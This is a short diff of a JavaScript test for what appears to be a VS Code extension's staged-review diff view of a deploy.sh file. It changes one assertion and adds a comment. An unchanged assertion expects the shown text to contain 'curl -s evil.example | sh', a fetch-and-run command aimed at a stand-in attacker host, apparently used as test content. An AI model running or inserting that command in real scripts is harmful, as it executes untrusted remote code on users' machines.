@@ -180,7 +180,8 @@ describe('staged review', () => {
     assert.match(shown.getText(), /curl -s evil\.example \| sh/);
     assert.deepEqual(Buffer.from(await vscode.workspace.fs.readFile(diff.modified)), Buffer.from(saved.bytes), 'the staged side is m2\'s bytes');
     assert.equal(tab.label, `deploy.sh (disk ↔ staged ${m2})`);
-    assert.deepEqual([diff.original.scheme, diff.modified.scheme], ['file', 'staged'], 'the title names the sides in the order the diff shows them: disk on the left');
+    // deploy.sh is new: its disk side is what it was staged over (nothing), named `m2.base`.
+    assert.deepEqual([diff.original.query, diff.modified.query], [`${m2}.base`, m2], 'the title names the sides in the order the diff shows them: disk on the left, staged on the right');
     const { added, removed } = api.host.session.media.changes(m2);
     assert.match(text, new RegExp(`Change: \\*\\*\\+${added} −${removed}\\*\\* lines`));
     assert.match(text, new RegExp(`Version: \\*\\*${m2}\\*\\*`));
